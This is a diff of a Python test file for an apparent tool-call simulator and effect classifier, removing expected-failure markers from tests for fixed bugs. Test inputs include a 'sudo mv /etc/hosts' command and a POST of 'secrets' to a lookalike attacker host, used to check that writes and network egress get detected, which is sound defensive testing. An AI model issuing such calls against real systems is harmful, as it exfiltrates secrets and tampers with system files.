@@ -74,14 +74,10 @@ def test_classify_effects_is_case_insensitive_on_tool_name_and_ordered() -> None
     assert set(effects) == set(EFFECTS)
 
 
-@pytest.mark.xfail(strict=True, reason="bug: the write-command regex needs the program at the start or after "
-                                       "a separator, so `sudo mv`/`sudo rm` are not classified as writes")
 def test_classify_effects_sudo_write_is_a_write() -> None:
     assert "write" in classify_effects("shell", {"command": "sudo mv /etc/hosts /tmp/hosts"})
 
 
-@pytest.mark.xfail(strict=True, reason="bug: the loopback check is an unanchored prefix match, so "
-                                       "https://localhost.attacker.com/ is not network egress")
 def test_classify_effects_lookalike_localhost_host_is_egress() -> None:
     effects = classify_effects("http_request", {"method": "POST", "url": "https://localhost.attacker.com/x",
                                                 "body": "secrets"})
@@ -195,8 +191,6 @@ def test_edit_applies_to_seeded_file_and_rejects_missing_text() -> None:
     assert bad.content == "Error: old_str not found in src/app.py"
 
 
-@pytest.mark.xfail(strict=True, reason="bug: `recorded` is tried before the world state, so re-reading a "
-                                       "recorded file after the candidate changed it returns the stale recording")
 def test_recorded_read_after_edit_sees_the_edit() -> None:
     sim = ToolSimulator(recording(("read_file", {"path": "src/app.py"}, "def total(x):\n    return 0\n")), CHAIN)
     run(sim, "edit_file", path="src/app.py", old_str="return 0", new_str="return sum(x)")
@@ -253,8 +247,6 @@ def test_write_after_rm_restores_the_file() -> None:
     assert run(sim, "read_file", path="a.txt").content == "v2"
 
 
-@pytest.mark.xfail(strict=True, reason="bug: shell `cat` ignores WorldState.deleted, so a removed file is "
-                                       "still readable with cat (read_file, ls and grep hide it)")
 def test_cat_after_rm_reports_missing_file() -> None:
     sim = ToolSimulator(recording(), ["rules"])
     run(sim, "write_file", path="a.txt", content="secret")
@@ -262,8 +254,6 @@ def test_cat_after_rm_reports_missing_file() -> None:
     assert run(sim, "shell", command="cat a.txt").content == "cat: a.txt: No such file or directory"
 
 
-@pytest.mark.xfail(strict=True, reason="bug: edit_file ignores WorldState.deleted: editing a removed file "
-                                       "reports success while the file stays hidden")
 def test_edit_after_rm_is_an_error() -> None:
     sim = ToolSimulator(recording(), ["rules"])
     run(sim, "write_file", path="a.py", content="x = 1")
@@ -271,8 +261,6 @@ def test_edit_after_rm_is_an_error() -> None:
     assert run(sim, "edit_file", path="a.py", old_str="x = 1", new_str="x = 2").content.startswith("Error")
 
 
-@pytest.mark.xfail(strict=True, reason="bug: world state is seeded from the *normalised* arguments, whose "
-                                       "whitespace is collapsed, so recorded writes lose their newlines/indent")
 def test_recorded_write_seeds_exact_file_content() -> None:
     code = "def f():\n    return 1\n"
     sim = ToolSimulator(recording(("write_file", {"path": "a.py", "content": code}, "Wrote 22 bytes to a.py")), CHAIN)
